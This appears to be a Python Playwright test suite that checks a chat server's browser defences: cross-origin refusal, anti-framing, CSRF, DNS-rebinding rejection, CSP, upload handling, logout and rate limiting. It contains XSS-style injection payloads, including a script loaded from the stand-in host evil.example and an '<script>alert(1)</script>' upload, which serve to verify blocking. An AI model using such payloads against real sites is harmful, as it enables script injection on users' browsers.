"""The guards in a real browser: a hostile page gets nowhere, and our own page breaks no rule."""

import asyncio
import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page, expect

from tests.support.browser import Chat
from tests.support.hostile_page import hostile_page
from tests.support.server_process import ServerProcess

SMUGGLED = """() => {
  const script = document.createElement("script");
  script.textContent = "window.ran = 'script'";
  const image = document.createElement("img");
  image.setAttribute("onerror", "window.ran = 'handler'");
  image.src = "/nothing.png";
  const link = document.createElement("a");
  link.href = "javascript:window.ran = 'link'";
  const far = document.createElement("script");
  far.src = "http://evil.example/x.js";
  return new Promise((done) => {
    far.onerror = () => setTimeout(() => done(window.ran || "nothing"), 50);
    document.body.append(script, image, link, far);
    link.click();
  });
}"""


@pytest.fixture(scope="module")
def hostile() -> Iterator[int]:
    with hostile_page() as port:
        yield port


class Answers:
    """What a server answers to a page, also what the browser does not tell the page."""

    def __init__(self) -> None:
        self._asked: dict[str, str] = {}
        self._told: list[tuple[str, int]] = []

    async def watch(self, page: Page) -> None:
        """Hear of every request of a page from now on."""
        network = await page.context.new_cdp_session(page)
        network.on("Network.requestWillBeSent", self._ask)
        network.on("Network.responseReceivedExtraInfo", self._tell)
        await network.send("Network.enable")

    def of(self, url: str) -> list[int]:
        """Return the statuses that this server has answered with."""
        return [status for id_, status in self._told if self._asked.get(id_, "").startswith(url)]

    def _ask(self, facts: dict[str, Any]) -> None:
        self._asked[facts["requestId"]] = facts["request"]["url"]

    def _tell(self, facts: dict[str, Any]) -> None:
        self._told.append((facts["requestId"], facts["statusCode"]))


def broken_rules(page: Page) -> list[str]:
    """Return a list that fills with what the browser says of our own policy."""
    told: list[str] = []

    def heard(message) -> None:
        if "Content Security Policy" in message.text:
            told.append(message.text)

    page.on("console", heard)
    return told


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
async def test_a_hostile_page_neither_reads_nor_writes_nor_listens(
    visit, room: ServerProcess, hostile: int, name: str
) -> None:
    async with visit() as visitor:
        page = await visitor.context.new_page()
        await page.goto(f"http://{name}:{hostile}/")
        answers = Answers()
        await answers.watch(page)

        tried = await page.evaluate("(there) => window.tries(there)", room.url)
        blindly = await page.evaluate("(there) => window.writesBlindly(there)", room.url)

    assert set(tried.values()) == {"refused"}, tried
    assert blindly in {"sent blindly", "refused"}  # a browser tells a page nothing of it
    assert len(answers.of(room.url)) >= len(tried) - 1  # all but the socket
    assert set(answers.of(room.url)) == {403}


async def test_a_hostile_page_cannot_frame_the_chat(
    visit, room: ServerProcess, hostile: int
) -> None:
    async with visit() as visitor:
        page = await visitor.context.new_page()
        await page.goto(f"http://127.0.0.1:{hostile}/")

        async with page.expect_response(f"{room.url}/") as answer:
            await page.evaluate("(there) => window.frames_(there)", f"{room.url}/")

        assert (await answer.value).status == 403


async def test_a_form_of_a_hostile_page_signs_nobody_in(
    visit, room: ServerProcess, hostile: int
) -> None:
    async with visit(sign_in=False) as visitor:
        page = await visitor.context.new_page()
        await page.goto(f"http://127.0.0.1:{hostile}/")

        async with page.expect_response(f"{room.url}/auth/header") as answer:
            await page.evaluate("(there) => window.sendsForm(there)", room.url)

        assert (await answer.value).status == 403
        assert await visitor.context.cookies(room.url) == []


async def test_a_name_that_was_bent_to_this_computer_shows_nothing(
    visit, room: ServerProcess
) -> None:
    async with visit() as visitor:
        page = await visitor.context.new_page()

        answer = await page.goto(f"http://evil.localhost:{room.port}/")

        assert answer.status == 421
        assert "Not a name of this server" in await page.content()


async def test_our_own_page_breaks_no_rule_and_runs_no_smuggled_script(
    visit, room: ServerProcess
) -> None:
    async with visit() as visitor:
        page = await visitor.context.new_page()
        broken = broken_rules(page)
        await page.goto(room.url)
        chat = Chat(page)
        await chat.ready()
        await chat.say("density lab, grade 7, 47 minutes")
        await chat.reload()
        by_ourselves = list(broken)

        ran = await page.evaluate(SMUGGLED)

    assert by_ourselves == []
    assert ran == "nothing"
    assert len(broken) >= 3
    assert [url for url in visitor.outside if "evil.example" not in url] == []


async def test_an_uploaded_page_comes_back_as_a_file_that_does_nothing(
    visit, room: ServerProcess
) -> None:
    file = {"name": "x.txt", "mimeType": "text/plain", "buffer": b"<script>alert(1)</script>"}
    async with visit() as visitor:
        chat = await visitor.open()
        await chat.say("help")
        await chat.page.wait_for_url(re.compile(r"/thread/"))
        async with chat.page.expect_response(re.compile(r"/project/file\?")) as sent:
            await chat.page.locator("input[type=file]").first.set_input_files(file)
        kept = await sent.value
        path = f"/project/file/{(await kept.json())['id']}?{urlsplit(kept.url).query}"

        back = await chat.page.request.get(f"{room.url}{path}")
        content = await back.body()

    assert (back.status, content) == (200, file["buffer"])
    assert back.headers["content-disposition"] == "attachment"
    assert back.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in back.headers["content-security-policy"]
    assert "script" not in back.headers["content-security-policy"]


async def test_people_sign_in_and_are_out_once_their_account_is_gone(
    visit, own_room: Callable[..., ServerProcess]
) -> None:
    server = own_room(DRAFTROOM_AUTH="password")
    await asyncio.to_thread(server.says, "draftroom user add NAME")
    server.draftroom("user", "add", "Ana", given="correct horse battery\n")
    async with visit(server, sign_in=False) as visitor:
        page = await visitor.context.new_page()
        broken = broken_rules(page)
        await page.goto(server.url)
        await page.get_by_label("Name").fill("ana")
        await page.get_by_label("Password", exact=True).fill("not the password")
        await page.get_by_role("button", name="Sign in").click()
        await expect(page.get_by_text("That didn't let you in")).to_be_visible()
        await page.get_by_label("Password", exact=True).fill("correct horse battery")
        await page.get_by_role("button", name="Sign in").click()
        await Chat(page).ready()
        assert (await page.request.get(f"{server.url}/api/me")).status == 200

        server.draftroom("user", "remove", "ana")

        assert (await page.request.get(f"{server.url}/api/me")).status == 401
        assert (await page.request.get(f"{server.url}/user")).status == 401
        await page.reload()
        await expect(page.get_by_label("Name")).to_be_visible()

    assert broken == []


async def test_whoever_signs_out_leaves_no_cookie_that_still_opens_the_door(
    browser, own_room: Callable[..., ServerProcess]
) -> None:
    server = own_room(DRAFTROOM_AUTH="password")
    server.draftroom("user", "add", "Ana", given="correct horse battery\n")
    ana = {"username": "ana", "password": "correct horse battery"}
    leaving, staying = await browser.new_context(), await browser.new_context()
    for context in (leaving, staying):
        assert (await context.request.post(f"{server.url}/login", form=ana)).ok
    copied = await browser.new_context(storage_state=await leaving.storage_state())
    assert (await copied.request.get(f"{server.url}/api/me")).status == 200

    assert (await leaving.request.post(f"{server.url}/logout")).ok
    statuses = [(await one.request.get(f"{server.url}/api/me")).status for one in (copied, staying)]
    for context in (leaving, staying, copied):
        await context.close()

    assert statuses == [401, 200]
    assert "ana signed out from 127.0.0.1" in server.log()


async def test_who_guesses_must_wait_and_is_told_how_long(
    browser, own_room: Callable[..., ServerProcess]
) -> None:
    server = own_room(DRAFTROOM_AUTH="password")
    context = await browser.new_context()
    guess = {"username": "ana", "password": "wrong words"}

    answers = [await context.request.post(f"{server.url}/login", form=guess) for _ in range(21)]
    statuses = [one.status for one in answers]
    waits = [int(one.headers["retry-after"]) for one in answers[10:]]
    await context.close()

    assert statuses == [401] * 10 + [429] * 11
    assert all(0 < seconds <= 600 for seconds in waits[:10])  # by name
    assert 0 < waits[10] <= 300  # by address


async def test_whom_the_proxy_names_is_never_who_was_here_before(
    browser, own_room: Callable[..., ServerProcess]
) -> None:
    server = own_room(DRAFTROOM_AUTH="header", DRAFTROOM_AUTH_HEADER="X-Forwarded-User")
    context = await browser.new_context()
    as_ana, as_ben = {"X-Forwarded-User": "Ana"}, {"X-Forwarded-User": "ben"}

    async def who(named: dict[str, str], path: str = "/user") -> tuple[int, str | None]:
        answer = await context.request.get(f"{server.url}{path}", headers=named)
        facts = await answer.json()
        return answer.status, facts.get("identifier") or facts.get("id")

    nobody = await context.request.post(f"{server.url}/auth/header")
    await context.request.post(f"{server.url}/auth/header", headers=as_ana)
    seen = [
        await who(as_ana),
        await who(as_ana, "/api/me"),
        (await who(as_ben))[0],
        await who(as_ben, "/api/me"),
        (await who({}))[0],
        (await who({}, "/api/me"))[0],
    ]
    await context.request.post(f"{server.url}/auth/header", headers=as_ben)
    then = await who(as_ben)
    await context.close()

    assert nobody.status == 401
    assert seen == [(200, "ana"), (200, "ana"), 401, (200, "ben"), 401, 401]
    assert then == (200, "ben")
